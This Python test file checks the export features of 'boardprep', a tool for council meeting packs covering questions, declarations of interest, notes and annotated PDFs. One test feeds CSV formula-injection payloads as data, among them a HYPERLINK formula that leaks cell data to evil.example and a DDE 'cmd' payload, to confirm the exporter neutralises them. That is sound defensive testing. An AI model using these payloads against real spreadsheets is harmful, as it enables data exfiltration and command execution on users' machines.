from __future__ import annotations

import csv
import errno
import json
import os
import signal
import stat
import subprocess
import sys
from pathlib import Path

import docx
import pymupdf
import pytest

from boardprep.core.errors import BoardprepError, UsageError
from boardprep.core.export import EXPORTERS, export
from boardprep.core.export.declarations import sentence
from boardprep.core.export.output import ExportError
from boardprep.core.model import AgendaTree, Meeting
from boardprep.core.store import Store
from tests.store.fixtures import RIVERSIDE_QUOTE


@pytest.fixture
def filled(registered: tuple[Store, str, AgendaTree], monkeypatch: pytest.MonkeyPatch):
    store, sha, tree = registered
    monkeypatch.setenv("BOARDPREP_MEMBER", "Cllr Priya Amberley")
    store.add_question(sha, "6", "Which branches lose Saturday opening?")
    store.add_question(sha, "4", "What is the contingency on the footbridge?", asker="Cllr Ng")
    store.add_question(sha, "4", "When does phase two start?")
    store.add_declaration(sha, "5", interest="pecuniary", nature="I rent a garage on Mill Lane",
                          withdraw=True)  # fmt: skip
    store.add_declaration(
        sha, "6", interest="other-registrable",
        nature="I am a trustee of the Friends of Wexcombe Library",
        withdraw=False, dispensation="granted by Standards Committee",
    )  # fmt: skip
    store.add_note(sha, "4", "Phasing looks risky", page=6, rect=(100, 120, 120, 140),
                   quote=RIVERSIDE_QUOTE)  # fmt: skip
    store.set_item_note(sha, "3", "Minutes: my comment on item 7 is missing")
    store.add_highlight(sha, 6, [(60, 60, 200, 60, 60, 75, 200, 75)], RIVERSIDE_QUOTE)
    return store, sha, tree


def _docx_text(path: Path) -> str:
    d = docx.Document(str(path))
    parts = [p.text for p in d.paragraphs]
    for t in d.tables:
        parts += [c.text for row in t.rows for c in row.cells]
    return "\n".join(parts)


def _pdf_text(path: Path) -> str:
    with pymupdf.open(str(path)) as doc:
        return " ".join(" ".join(p.get_text().split()) for p in doc)


def test_questions_md_csv_docx_in_agenda_order(filled, tmp_path: Path) -> None:
    store, sha, _ = filled
    for fmt in ("md", "csv", "docx"):
        export(store, sha, "questions", fmt, tmp_path / f"q.{fmt}")
    md = (tmp_path / "q.md").read_text()
    assert md.index("Item 4: Riverside") < md.index("Item 6: Library")
    assert "What is the contingency on the footbridge?" in md and "asked by Cllr Ng" in md
    rows = list(csv.DictReader((tmp_path / "q.csv").open(encoding="utf-8")))
    assert [(r["item"], r["order"]) for r in rows] == [("4", "1"), ("4", "2"), ("6", "1")]
    assert rows[2]["question"] == "Which branches lose Saturday opening?"
    text = _docx_text(tmp_path / "q.docx")
    assert text.index("contingency") < text.index("phase two") < text.index("Saturday")
    assert "From: Cllr Priya Amberley" in text


def test_questions_json_is_a_bundle(filled, tmp_path: Path) -> None:
    store, sha, _ = filled
    export(store, sha, "questions", "json", tmp_path / "q.json")
    data = json.loads((tmp_path / "q.json").read_text())
    assert data["format"] == "boardprep-bundle" and data["member"] == "Cllr Priya Amberley"
    assert data["pack"]["sha256"] == sha and data["pack"]["tree"]["items"][3]["number"] == "4"
    assert len(data["records"]["questions"]) == 3 and "notes" not in data["records"]


def test_declarations_pdf_and_docx_form(filled, tmp_path: Path) -> None:
    store, sha, _ = filled
    export(store, sha, "declarations", "pdf", tmp_path / "d.pdf")
    export(store, sha, "declarations", "docx", tmp_path / "d.docx")
    pdf = _pdf_text(tmp_path / "d.pdf")
    for expected in ("Declarations of interest", "Wexcombe Borough Council", "Cllr Priya Amberley",
                     "Disclosable pecuniary interest", "Other registrable interest",
                     "I rent a garage on Mill Lane", "granted by Standards Committee",
                     "I declare a disclosable pecuniary interest in item 5"):  # fmt: skip
        assert expected in pdf
    d = docx.Document(str(tmp_path / "d.docx"))
    table = d.tables[0]
    assert [c.text for c in table.rows[0].cells] == [
        "Item", "Type of interest", "Description", "Withdraw (Y/N)", "Dispensation"
    ]  # fmt: skip
    assert [c.text for c in table.rows[1].cells][1:4] == [
        "Disclosable pecuniary interest", "I rent a garage on Mill Lane", "Y"
    ]  # fmt: skip
    assert table.rows[2].cells[3].text == "N"
    assert "I will leave the room" in _docx_text(tmp_path / "d.docx")


def test_declaration_sentence_wording(filled) -> None:
    store, sha, tree = filled
    dpi, trustee = store.declarations(sha)
    said = sentence(dpi, tree.meeting)
    assert said == (
        "I declare a disclosable pecuniary interest in item 5 (Car Parking Charges Review) as "
        "I rent a garage on Mill Lane. I will leave the room and take no part in the discussion "
        "or vote."
    )
    assert "I hold a dispensation (granted by Standards Committee) and will take part" in sentence(
        trustee, tree.meeting
    )
    trustee.dispensation, trustee.action = None, "Speak then withdraw"
    assert sentence(trustee, tree.meeting).endswith(
        "I will speak as a member of the public may, then leave the room for the discussion "
        "and vote."
    )
    trustee.action = "Not vote"
    assert sentence(trustee, tree.meeting).endswith(
        "I will take part in the discussion but not vote."
    )
    trustee.nature = "My husband chairs the Friends"
    assert " as my husband chairs the Friends." in sentence(trustee, tree.meeting)
    trustee.nature = "Wexcombe Rowing Club pays my fees"
    assert " as Wexcombe Rowing Club pays my fees." in sentence(trustee, tree.meeting)
    nhs = Meeting("Wexcombe NHS Foundation Trust", "Board of Directors", "2026-03-12")
    assert sentence(dpi, nhs).startswith("I declare a financial interest in item 5")


def test_notes_exports(filled, tmp_path: Path) -> None:
    store, sha, _ = filled
    for fmt in ("md", "docx", "json"):
        export(store, sha, "notes", fmt, tmp_path / f"n.{fmt}")
    md = (tmp_path / "n.md").read_text()
    assert md.index("Item 3: Minutes") < md.index("Item 4: Riverside")
    assert f"> {RIVERSIDE_QUOTE}" in md and "Phasing looks risky — page 4 (#6)" in md
    assert "my comment on item 7 is missing" in _docx_text(tmp_path / "n.docx")
    data = json.loads((tmp_path / "n.json").read_text())
    assert {n["text"] for n in data["records"]["notes"]} == {
        "Phasing looks risky", "Minutes: my comment on item 7 is missing"
    }  # fmt: skip


def test_brief_pdf_has_agenda_with_notes_and_questions(filled, tmp_path: Path) -> None:
    store, sha, _ = filled
    export(store, sha, "brief", "pdf", tmp_path / "b.pdf")
    text = _pdf_text(tmp_path / "b.pdf")
    assert text.index("1. Apologies for Absence") < text.index("4. Riverside Regeneration")
    assert text.index("4. Riverside Regeneration") < text.index("Phasing looks risky")
    assert text.index("Phasing looks risky") < text.index("6. Library Service Review")
    assert "Q1: What is the contingency on the footbridge?" in text


def test_annotated_pdf_has_real_annotations(filled, tmp_path: Path, pack1) -> None:
    store, sha, _ = filled
    export(store, sha, "annotated-pdf", "pdf", tmp_path / "a.pdf", pack_path=str(pack1[0]))
    with pymupdf.open(str(tmp_path / "a.pdf")) as doc:
        assert doc.page_count == pack1[1].pack.pages
        p6 = [(a.type[1], a.info["content"]) for a in doc[5].annots()]
        assert ("Text", "Phasing looks risky") in p6
        assert ("Highlight", RIVERSIDE_QUOTE) in p6
        first_minutes = [a.info["content"] for a in doc[2].annots()]
        assert first_minutes == ["Item 3: Minutes: my comment on item 7 is missing"]


def test_everything_json_and_unsupported_pairs(filled, tmp_path: Path) -> None:
    store, sha, _ = filled
    export(store, sha, "everything", "json", tmp_path / "all.json")
    data = json.loads((tmp_path / "all.json").read_text())
    assert data["kind"] == "backup"
    assert {k: len(v) for k, v in data["records"].items()} == {
        "notes": 2, "questions": 3, "declarations": 2, "highlights": 1, "bookmarks": 0
    }  # fmt: skip
    with pytest.raises(UsageError, match="valid formats for declarations: pdf, docx, md"):
        export(store, sha, "declarations", "csv", tmp_path / "x.csv")
    assert set(EXPORTERS["annotated-pdf"]) == {"pdf"}


# ---- safety: atomic files, private files, formulas, a database that cannot be written ----------


def test_csv_cells_that_would_start_a_formula_are_neutralised(filled, tmp_path: Path) -> None:
    store, sha, _ = filled
    evil = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+1", "-2+3", "@SUM(A1)",
            "\tx", "\r=1", "plain - text", "a=b"]  # fmt: skip
    for text in evil:
        store.add_question(sha, "5", text, asker="=cmd|' /C calc'!A0")
    export(store, sha, "questions", "csv", tmp_path / "q.csv")
    rows = list(csv.DictReader((tmp_path / "q.csv").open(encoding="utf-8", newline="")))
    got = {r["question"] for r in rows if r["item"] == "5"}
    assert got == {"'" + t for t in evil[:6]} | {"plain - text", "a=b"}
    assert {r["asker"] for r in rows if r["item"] == "5"} == {"'=cmd|' /C calc'!A0"}
    raw = (tmp_path / "q.csv").read_text(encoding="utf-8")
    line = next(x for x in raw.splitlines() if "HYPERLINK" in x)
    assert line.split(",", 3)[3].startswith("\"'=HYPERLINK")


@pytest.mark.parametrize(
    ("what", "fmt"), [(w, f) for w, fs in EXPORTERS.items() for f in fs]
)  # fmt: skip
def test_every_export_is_private_and_replaces_atomically(
    filled, tmp_path: Path, pack1, what: str, fmt: str
) -> None:
    store, sha, _ = filled
    out = tmp_path / "out" / f"x.{fmt}"
    out.parent.mkdir()
    out.write_text("previous")
    os.chmod(out, 0o644)
    export(store, sha, what, fmt, out, pack_path=str(pack1[0]))
    assert out.read_bytes() != b"previous" and out.stat().st_size > 0
    assert stat.S_IMODE(out.stat().st_mode) == 0o600
    assert [p.name for p in out.parent.iterdir()] == [out.name]


def test_a_failing_export_leaves_the_previous_file(
    filled, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    from boardprep.core.export import questions

    store, sha, _ = filled
    out = tmp_path / "out" / "q.docx"
    out.parent.mkdir()
    out.write_text("the good backup")

    def broken(_store: Store, _sha: str, tmp: Path) -> None:
        Path(tmp).write_text("half")
        raise OSError(errno.ENOSPC, "No space left on device")

    monkeypatch.setattr(questions, "to_docx", broken)
    with pytest.raises(ExportError, match=r"cannot write .*q.docx: the disk is full"):
        export(store, sha, "questions", "docx", out)
    assert out.read_text() == "the good backup"
    assert [p.name for p in out.parent.iterdir()] == ["q.docx"]
    with pytest.raises(ExportError, match="the folder does not exist"):
        export(store, sha, "questions", "md", tmp_path / "missing" / "q.md")


_KILLED_CHILD = """
import sys, time
from boardprep.core.export import export, backup
from boardprep.core.store import Store

def slow_write(bundle, out):
    with open(out, "w") as fh:
        fh.write('{"format": "boardprep-bundle", "half": ')
        fh.flush()
        print("writing", flush=True)
        time.sleep(60)

backup.write_bundle = slow_write
with Store(sys.argv[1]) as s:
    export(s, sys.argv[2], "everything", "json", sys.argv[3])
"""


def test_an_export_killed_mid_write_leaves_the_previous_file(
    filled, tmp_path: Path, data_dir: Path
) -> None:
    store, sha, _ = filled
    out = tmp_path / "backup.json"
    export(store, sha, "everything", "json", out)
    good = out.read_bytes()
    proc = subprocess.Popen(
        [sys.executable, "-c", _KILLED_CHILD, str(data_dir), sha, str(out)],
        stdout=subprocess.PIPE, text=True, cwd=Path(__file__).resolve().parents[2],
    )  # fmt: skip
    try:
        assert proc.stdout is not None and proc.stdout.readline().strip() == "writing"
        os.kill(proc.pid, signal.SIGKILL)
    finally:
        proc.wait(timeout=30)
    assert out.read_bytes() == good
    assert json.loads(good)["kind"] == "backup"


def test_cli_export_works_when_the_database_cannot_be_written(
    filled, tmp_path: Path, data_dir: Path, pack1, monkeypatch: pytest.MonkeyPatch,
    capsys: pytest.CaptureFixture[str],
) -> None:  # fmt: skip
    from boardprep import cli
    from boardprep.core.errors import DiskFullError
    from boardprep.core.store import packref
    from boardprep.core.store.packs import PackRegistry

    store, _sha, tree = filled
    store.close()
    monkeypatch.setattr(packref, "analyze_pack", lambda _p, _d: tree)

    def full(*_a: object, **_k: object) -> None:
        raise DiskFullError("the disk holding the database is full")

    monkeypatch.setattr(PackRegistry, "register_pack", full)
    out = tmp_path / "q.md"
    code = cli.main(["--data-dir", str(data_dir), "export", str(pack1[0]), "--what",
                     "questions", "--format", "md", "-o", str(out)])  # fmt: skip
    _, err = capsys.readouterr()
    assert code == 0, err
    assert "disk holding the database is full" in err
    assert "What is the contingency on the footbridge?" in out.read_text()


def test_reading_store_never_writes(filled, tmp_path: Path, data_dir: Path) -> None:
    import sqlite3

    from boardprep.core.export.reading import open_for_reading

    _store, sha, _ = filled
    reader = open_for_reading(data_dir)
    try:
        assert len(reader.questions(sha)) == 3
        with pytest.raises((sqlite3.Error, BoardprepError)):
            reader.add_question(sha, "4", "must not be written")
    finally:
        reader.close()
    with pytest.raises(ExportError, match="no boardprep database"):
        open_for_reading(tmp_path / "empty-dir")


def test_exports_survive_records_damaged_by_an_older_import(filled, tmp_path: Path, pack1) -> None:
    """NUL bytes, control characters and bad geometry stored before bundles were checked."""
    store, sha, _ = filled
    note = store.add_note(sha, "4", "ok", page=6, rect=(1, 2, 3, 4))
    hl = store.add_highlight(sha, 6, [(1, 2, 3, 4, 5, 6, 7, 8)], "q")
    store.conn.execute(
        "UPDATE notes SET text=?, rect=? WHERE id=?", ("bad\x00 \x0b text\x1b", "[NaN, 1]", note.id)
    )
    store.conn.execute("UPDATE highlights SET quads=? WHERE id=?", ('[["x"], 5, {"a": 1}]', hl.id))
    store.conn.execute("UPDATE questions SET text=text || ? WHERE item='4'", ("\x00\x07",))
    hl2 = store.add_highlight(sha, 6, [(1, 2, 3, 4, 5, 6, 7, 8)], "q2")
    store.conn.execute("UPDATE highlights SET quads='not json' WHERE id=?", (hl2.id,))
    for what, fmt in (("notes", "docx"), ("questions", "docx"), ("declarations", "docx"),
                      ("brief", "pdf"), ("annotated-pdf", "pdf"), ("notes", "md")):  # fmt: skip
        export(store, sha, what, fmt, tmp_path / f"{what}.{fmt}", pack_path=str(pack1[0]))
    assert "bad  text" in _docx_text(tmp_path / "notes.docx")
    with pymupdf.open(str(tmp_path / "annotated-pdf.pdf")) as doc:
        contents = [a.info["content"] for a in doc[5].annots()]
    assert "bad  text" in contents


def test_export_targets_that_are_not_plain_files(filled, tmp_path: Path) -> None:
    store, sha, _ = filled
    real = tmp_path / "real.md"
    real.write_text("old")
    link = tmp_path / "link.md"
    link.symlink_to(real)
    export(store, sha, "questions", "md", link)
    assert link.is_symlink() and "footbridge" in real.read_text()  # the link still points there
    fifo = tmp_path / "pipe.md"
    os.mkfifo(fifo)
    with pytest.raises(ExportError, match="not a regular file"):
        export(store, sha, "questions", "md", fifo)
    with pytest.raises(ExportError, match="it is a folder"):
        export(store, sha, "questions", "md", tmp_path)
    stale = tmp_path / ".real.md.abc123.part.md"
    stale.write_text("left by a killed export")
    os.utime(stale, (1, 1))
    export(store, sha, "questions", "md", real)
    assert not stale.exists()


def test_every_export_stays_linear_with_thousands_of_records(
    registered: tuple[Store, str, AgendaTree], tmp_path: Path, pack1
) -> None:
    """6,000 records, most on one page: the old quadratic writers took minutes here."""
    import time
    import uuid

    from boardprep.core.store.records import insert_rows

    store, sha, _ = registered
    now = "2026-01-01T00:00:00Z"

    def rows(n: int, **extra: object) -> list[dict[str, object]]:
        return [{"uid": uuid.uuid4().hex, "sha256": sha, "item": "4", "created": now,
                 "updated": now, **extra} for _ in range(n)]  # fmt: skip

    quads = json.dumps([[60, 60, 200, 60, 60, 72, 200, 72]])
    base = ["uid", "sha256", "item", "created", "updated"]
    insert_rows(store.conn, "questions", [*base, "text"], rows(2000, text="Why?"))
    insert_rows(store.conn, "notes", [*base, "text", "page", "rect"],
                rows(2000, text="note", page=6, rect="[50, 50, 70, 70]"))  # fmt: skip
    insert_rows(store.conn, "declarations", [*base, "interest", "nature"],
                rows(1000, interest="other", nature="n"))  # fmt: skip
    insert_rows(store.conn, "highlights", [*base, "page", "quads"],
                rows(1000, page=6, quads=quads))  # fmt: skip
    for what, formats in EXPORTERS.items():
        for fmt in formats:
            start = time.perf_counter()
            export(store, sha, what, fmt, tmp_path / f"{what}.{fmt}", pack_path=str(pack1[0]))
            assert time.perf_counter() - start < 15, (what, fmt)
    with pymupdf.open(str(tmp_path / "annotated-pdf.pdf")) as doc:
        kind, annots = doc.xref_get_key(doc.page_xref(5), "Annots")
        assert kind == "array" and annots.count(" 0 R") == 3000
